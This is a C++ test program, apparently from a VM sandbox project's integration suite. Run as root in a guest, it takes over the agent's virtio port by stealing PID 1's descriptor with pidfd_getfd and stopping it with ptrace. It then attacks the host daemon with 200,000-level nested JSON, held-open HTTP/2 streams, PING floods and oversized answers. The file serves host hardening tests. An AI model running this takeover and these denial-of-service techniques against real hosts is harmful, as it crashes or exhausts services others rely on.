// space-hostile-agent: what guest root can do to the host's end of the agent port, as a test
// program (never part of an image). The integration test uploads it into a running sandbox and
// starts it as root. It then takes the agent's place on the port the way an attacker would:
//   1. takes a copy of the real agent's port descriptor (pidfd_getfd on PID 1),
//   2. stops the real agent (PTRACE_SEIZE + PTRACE_INTERRUPT: a ptrace stop holds even PID 1),
//   3. writes junk on the port, which ends the host's HTTP/2 session,
//   4. serves the host's next connection with the agent's own channel code and a router that
//      answers every call with JSON nested `--depth` levels deep (default 200,000: the depth
//      that overflowed spaced's stack when it copied or dumped such an answer).
// The handshake answer itself is well formed, so the host gets as far as its calls.
// Other behaviours after step 3 (--mode; the default, `deep`, is the above):
//   mute        reads and drops whatever the host sends and never answers, not even its hello.
//   hold-open   serves with the agent's channel code through a socketpair and a filter on the
//               way to the host: every streaming answer (Process/Start: start, output, end,
//               EndStream) keeps its HTTP/2 stream open (END_STREAM taken off), and after its
//               EndStream envelope the stream gets the first `--hold-bytes` (default 8 MiB - 1)
//               bytes of an 8 MiB envelope that never completes.
//   hold-running  the same, but Process/Start answers its start event only, never ends, and the
//               stream gets the unfinished envelope right after that event: each such stream
//               holds a message the host must keep until it is complete.
//   ping-flood  the same channel, plus HTTP/2 PING frames written to the host whenever the
//               channel has nothing to say, for as long as the session lasts.
//   wide        the same channel; ListDir and Stat answer {"entries":[{},{},...]} with just
//               under 2^19 empty objects, the most the host's JSON bound (2^20 values, a comma
//               and a brace each) lets through (~1.5 MB).
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "agent/channel.h"
#include "agent/event_loop.h"
#include "agent/guest_init.h"
#include "nested_json.h"

namespace {

using namespace space::agent;

int depth = 200000;
int delay_ms = 2000;
std::string mode = "deep";
size_t hold_bytes = (8u << 20) - 1;

[[noreturn]] void die(const std::string& what) {
  fprintf(stderr, "space-hostile-agent: %s: %s\n", what.c_str(), strerror(errno));
  exit(1);
}

int stealPortFromPid1() {
  const std::string port = findVirtioPort("space.agent");
  if (port.empty()) die("no port named space.agent");
  int target = -1;
  for (const auto& entry : std::filesystem::directory_iterator("/proc/1/fd")) {
    std::error_code ec;
    if (std::filesystem::read_symlink(entry.path(), ec) == port && !ec) target = std::stoi(entry.path().filename());
  }
  if (target < 0) die("PID 1 does not hold " + port);
  const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, 1, 0));
  if (pidfd < 0) die("pidfd_open(1)");
  const int fd = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, target, 0));
  if (fd < 0) die("pidfd_getfd");
  close(pidfd);
  return fd;
}

void stopPid1() {
  if (ptrace(PTRACE_SEIZE, 1, nullptr, nullptr) != 0) die("PTRACE_SEIZE 1");
  if (ptrace(PTRACE_INTERRUPT, 1, nullptr, nullptr) != 0) die("PTRACE_INTERRUPT 1");
  int status = 0;
  if (waitpid(1, &status, __WALL) != 1 || !WIFSTOPPED(status)) die("waiting for PID 1 to stop");
}

void writeJunk(int fd) {
  // More than any frame the host may be in the middle of: whatever it was reading, the bytes
  // that follow are no HTTP/2 it accepts.
  const std::string junk(256 << 10, '\xff');
  size_t off = 0;
  while (off < junk.size()) {
    ssize_t n = write(fd, junk.data() + off, junk.size() - off);
    if (n > 0) {
      off += static_cast<size_t>(n);
    } else if (n < 0 && errno == EAGAIN) {
      pollfd p{fd, POLLOUT, 0};
      if (poll(&p, 1, 1000) == 0) return;  // the host stopped reading: it has had enough
    } else if (n < 0 && errno != EINTR) {
      return;  // the host left already
    }
  }
}

// Every byte to the host, written in full (the port is non-blocking: waits for room).
bool writeAllPort(int fd, const char* data, size_t len) {
  size_t off = 0;
  while (off < len) {
    ssize_t n = write(fd, data + off, len - off);
    if (n > 0) {
      off += static_cast<size_t>(n);
    } else if (n < 0 && (errno == EAGAIN || errno == EINTR)) {
      pollfd p{fd, POLLOUT, 0};
      poll(&p, 1, 1000);
    } else {
      return false;
    }
  }
  return true;
}

std::string frameHeader(uint32_t length, uint8_t type, uint8_t flags, uint32_t stream) {
  std::string h(9, '\0');
  h[0] = static_cast<char>(length >> 16);
  h[1] = static_cast<char>(length >> 8);
  h[2] = static_cast<char>(length);
  h[3] = static_cast<char>(type);
  h[4] = static_cast<char>(flags);
  h[5] = static_cast<char>((stream >> 24) & 0x7f);
  h[6] = static_cast<char>(stream >> 16);
  h[7] = static_cast<char>(stream >> 8);
  h[8] = static_cast<char>(stream);
  return h;
}

struct Proxy {
  int port = -1;
  int inner = -1;  // our end of the socketpair; the channel has the other
};

// Host -> channel, unchanged.
void* pumpIn(void* arg) {
  auto* px = static_cast<Proxy*>(arg);
  char buf[64 << 10];
  while (true) {
    pollfd p{px->port, POLLIN, 0};
    poll(&p, 1, 1000);
    if (!(p.revents & POLLIN)) {
      if (p.revents & POLLHUP) usleep(50 * 1000);  // no host attached: look again soon
      continue;
    }
    ssize_t n = read(px->port, buf, sizeof buf);
    if (n <= 0) {
      usleep(10 * 1000);
      continue;
    }
    size_t off = 0;
    while (off < static_cast<size_t>(n)) {
      ssize_t w = write(px->inner, buf + off, static_cast<size_t>(n) - off);
      if (w > 0)
        off += static_cast<size_t>(w);
      else if (errno != EINTR)
        break;
    }
  }
  return nullptr;
}

// The partial envelope a held stream gets after its EndStream: a header claiming 8 MiB, then
// `hold_bytes` of its body, in DATA frames of the default maximum size, none ending the stream.
void holdStream(int port, uint32_t stream) {
  std::string body;
  body.push_back('\0');
  const uint32_t n = 8u << 20;
  body.push_back(static_cast<char>(n >> 24));
  body.push_back(static_cast<char>(n >> 16));
  body.push_back(static_cast<char>(n >> 8));
  body.push_back(static_cast<char>(n));
  body.append(std::min<size_t>(hold_bytes, n - 1), 'A');
  std::string out;
  for (size_t off = 0; off < body.size(); off += 16384) {
    const size_t len = std::min<size_t>(16384, body.size() - off);
    out += frameHeader(static_cast<uint32_t>(len), 0, 0, stream);
    out.append(body, off, len);
  }
  writeAllPort(port, out.data(), out.size());
  fprintf(stderr, "space-hostile-agent: stream %u held open with %zu bytes of an unfinished envelope\n", stream,
          body.size());
}

// Channel -> host, frame by frame, changed as the mode says.
void* pumpOut(void* arg) {
  auto* px = static_cast<Proxy*>(arg);
  std::string in;
  bool h2 = false;                // the channel's SETTINGS went out: a session runs
  std::map<uint32_t, int> kinds;  // stream -> 1: Connect stream (envelopes), 2: other
  uint64_t pings = 0;
  char buf[64 << 10];
  auto forward = [&](const std::string& bytes) { writeAllPort(px->port, bytes.data(), bytes.size()); };
  while (true) {
    pollfd p{px->inner, POLLIN, 0};
    const int rc = poll(&p, 1, mode == "ping-flood" && h2 ? 0 : 1000);
    if (rc == 0) {
      if (mode == "ping-flood" && h2) {
        std::string burst;
        for (int i = 0; i < 256; ++i) {
          burst += frameHeader(8, 6, 0, 0);
          ++pings;
          burst.append(reinterpret_cast<const char*>(&pings), 8);
        }
        forward(burst);
        if (pings % (256 * 4096) == 0)
          fprintf(stderr, "space-hostile-agent: %llu PINGs sent\n", (unsigned long long)pings);
      }
      continue;
    }
    ssize_t n = read(px->inner, buf, sizeof buf);
    if (n <= 0) {
      if (n < 0 && errno == EINTR) continue;
      return nullptr;
    }
    in.append(buf, static_cast<size_t>(n));
    while (true) {
      // A handshake answer starts a new session; whatever came before it goes out unchanged.
      const size_t olleh = in.find("SPACE-OLLEH ");
      if (olleh != std::string::npos) {
        const size_t nl = in.find('\n', olleh);
        if (nl == std::string::npos) break;
        forward(in.substr(0, nl + 1));
        in.erase(0, nl + 1);
        kinds.clear();
        h2 = false;
        continue;
      }
      if (in.size() < 9) break;
      const auto* h = reinterpret_cast<const uint8_t*>(in.data());
      const size_t len = (size_t{h[0]} << 16) | (size_t{h[1]} << 8) | h[2];
      if (in.size() < 9 + len) break;
      std::string frame = in.substr(0, 9 + len);
      in.erase(0, 9 + len);
      const uint8_t flags = static_cast<uint8_t>(frame[4]);
      const uint32_t sid = ((uint32_t{static_cast<uint8_t>(frame[5])} & 0x7f) << 24) |
                           (uint32_t{static_cast<uint8_t>(frame[6])} << 16) |
                           (uint32_t{static_cast<uint8_t>(frame[7])} << 8) | uint32_t{static_cast<uint8_t>(frame[8])};
      const uint8_t ftype = static_cast<uint8_t>(frame[3]);
      if (ftype == 4 && !(flags & 1)) h2 = true;
      if (mode == "hold-running" && ftype == 0 && sid != 0 && kinds[sid] == 0 && len > 0) {
        const uint8_t first = static_cast<uint8_t>(frame[9]);
        kinds[sid] = first == 0 || first == 2 ? 1 : 2;
        forward(frame);
        if (kinds[sid] == 1) holdStream(px->port, sid);
        continue;
      }
      if (mode == "hold-open" && ftype == 0 && sid != 0) {
        if (kinds[sid] == 0 && len > 0) {
          const uint8_t first = static_cast<uint8_t>(frame[9]);
          kinds[sid] = first == 0 || first == 2 ? 1 : 2;
        }
        if ((flags & 1) && kinds[sid] == 1) {
          frame[4] = static_cast<char>(flags & ~1);
          forward(frame);
          holdStream(px->port, sid);
          continue;
        }
      }
      forward(frame);
    }
  }
}

void serveThroughProxy(int port) {
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0) die("socketpair");
  static Proxy px;
  px.port = port;
  px.inner = sv[1];
  pthread_t in_thread, out_thread;
  pthread_create(&in_thread, nullptr, pumpIn, &px);
  pthread_create(&out_thread, nullptr, pumpOut, &px);

  EventLoop loop;
  Router router;
  for (const char* method :
       {"/agent.Agent/Stats", "/agent.Agent/Configure", "/agent.Agent/Info", "/process.Process/List",
        "/process.Process/SendInput", "/process.Process/CloseStdin", "/process.Process/SendSignal"}) {
    router.unary(method, [](const Json&, const CallContext&) -> UnaryResult { return Json::object(); });
  }
  // wide: the widest answer within the host's bounds (2^20 values: ~2^19 objects, ~1.5 MB).
  if (mode == "wide") {
    static const Json wide = [] {
      Json entries = Json::array();
      for (int i = 0; i < (1 << 19) - 8; ++i) entries.push_back(Json::object());  // a comma and a brace each
      return Json{{"entries", std::move(entries)}};
    }();
    for (const char* method : {"/filesystem.Filesystem/ListDir", "/filesystem.Filesystem/Stat"}) {
      router.unary(method, [](const Json&, const CallContext&) -> UnaryResult { return wide; });
    }
  }
  static std::vector<std::shared_ptr<ServerStream>> running;  // never finished (hold-running)
  router.serverStream(
      "/process.Process/Start", [](const Json&, const CallContext&, std::shared_ptr<ServerStream> stream) {
        stream->send(Json{{"event", {{"start", {{"pid", 4242}}}}}});
        if (mode == "hold-running") {
          running.push_back(std::move(stream));
          return;
        }
        stream->send(Json{{"event", {{"data", {{"stdout", "aGkK"}}}}}});
        stream->send(Json{{"event", {{"end", {{"exited", true}, {"exitCode", 0}, {"status", "exited"}}}}}});
        stream->finish();
      });
  Channel channel(loop, router, [] {
    return Json{{"version", "hostile"}, {"kernel", "6.1.0-space"}, {"hostname", "hostile"}, {"uptime", 1.0}};
  });
  channel.adopt(sv[0], true);
  loop.run();
}

void* serve(void*) {
  usleep(static_cast<useconds_t>(delay_ms) * 1000);  // lets the exec that started us answer first
  const int port = stealPortFromPid1();
  stopPid1();
  if (mode == "deep") {
    fprintf(stderr, "space-hostile-agent: PID 1 stopped; serving its port, nesting %d deep\n", depth);
  } else {
    fprintf(stderr, "space-hostile-agent: PID 1 stopped; serving its port, mode %s\n", mode.c_str());
  }
  writeJunk(port);
  // The port's attach and detach signals come to this process (SIGIO is blocked in every
  // thread), not to the stopped agent.
  if (mode == "mute") {
    fcntl(port, F_SETOWN, getpid());
    char buf[64 << 10];
    while (true) {
      pollfd p{port, POLLIN, 0};
      poll(&p, 1, 1000);
      if (p.revents & POLLIN) {
        (void)!read(port, buf, sizeof buf);
      } else if (p.revents & POLLHUP) {
        usleep(50 * 1000);
      }
    }
  }
  if (mode != "deep") {
    fcntl(port, F_SETOWN, getpid());
    serveThroughProxy(port);
    return nullptr;
  }

  sigset_t mask;
  sigemptyset(&mask);
  sigaddset(&mask, SIGIO);  // blocked in every thread since main()
  const int sfd = signalfd(-1, &mask, SFD_NONBLOCK | SFD_CLOEXEC);
  // The port's attach and detach signals now come here, not to the stopped agent.
  fcntl(port, F_SETOWN, getpid());

  EventLoop loop;
  Router router;
  const Json deep =
      Json{{"entries", space::testsupport::nestedArrays(depth)}, {"processes", space::testsupport::nestedArrays(8)}};
  for (const char* method :
       {"/filesystem.Filesystem/ListDir", "/filesystem.Filesystem/Stat", "/filesystem.Filesystem/MakeDir",
        "/filesystem.Filesystem/Move", "/filesystem.Filesystem/Remove", "/process.Process/List",
        "/process.Process/SendInput", "/process.Process/SendSignal", "/agent.Agent/Stats", "/agent.Agent/Configure",
        "/agent.Agent/Info"}) {
    router.unary(method, [&deep](const Json&, const CallContext&) -> UnaryResult { return deep; });
  }
  router.serverStream("/process.Process/Start",
                      [&deep](const Json&, const CallContext&, std::shared_ptr<ServerStream> stream) {
                        stream->send(Json{{"event", {{"start", {{"pid", 4242}}}}}});
                        stream->send(Json{{"event", deep}});
                        stream->finish();
                      });
  Channel channel(loop, router, [] {
    return Json{{"version", "hostile"}, {"kernel", "6.1.0-space"}, {"hostname", "hostile"}, {"uptime", 1.0}};
  });
  channel.adopt(port, true);
  loop.addFd(sfd, EPOLLIN, [&](uint32_t) {
    signalfd_siginfo si{};
    while (read(sfd, &si, sizeof si) == sizeof si) channel.poke();
  });
  loop.run();
  return nullptr;
}

}  // namespace

int main(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--depth" && i + 1 < argc) {
      depth = std::stoi(argv[++i]);
    } else if (a == "--delay-ms" && i + 1 < argc) {
      delay_ms = std::stoi(argv[++i]);
    } else if (a == "--mode" && i + 1 < argc &&
               (std::string(argv[i + 1]) == "deep" || std::string(argv[i + 1]) == "mute" ||
                std::string(argv[i + 1]) == "hold-open" || std::string(argv[i + 1]) == "hold-running" ||
                std::string(argv[i + 1]) == "ping-flood" || std::string(argv[i + 1]) == "wide")) {
      mode = argv[++i];
    } else if (a == "--hold-bytes" && i + 1 < argc) {
      hold_bytes = std::stoul(argv[++i]);
    } else {
      printf(
          "usage: space-hostile-agent [--depth LEVELS] [--delay-ms MS] [--mode "
          "deep|mute|hold-open|hold-running|ping-flood|wide]\n"
          "                           [--hold-bytes N]\n"
          "Test program, run as root inside a SPACE guest: after MS milliseconds (default 2000)\n"
          "it stops the real agent and answers the host's calls with JSON nested LEVELS deep\n"
          "(default 200000). Other modes: see the top of tests/support/hostile_agent.cc.\n");
      return a == "--help" ? 0 : 2;
    }
  }
  signal(SIGPIPE, SIG_IGN);
  sigset_t mask;
  sigemptyset(&mask);
  sigaddset(&mask, SIGIO);  // its default action ends the process
  sigprocmask(SIG_BLOCK, &mask, nullptr);
  // Serialising the deep answer recurses once per level: a thread whose stack holds that.
  pthread_attr_t attr;
  pthread_attr_init(&attr);
  pthread_attr_setstacksize(&attr, 128ul << 20);
  pthread_t thread;
  if (pthread_create(&thread, &attr, serve, nullptr) != 0) die("pthread_create");
  pthread_join(thread, nullptr);
  return 0;
}
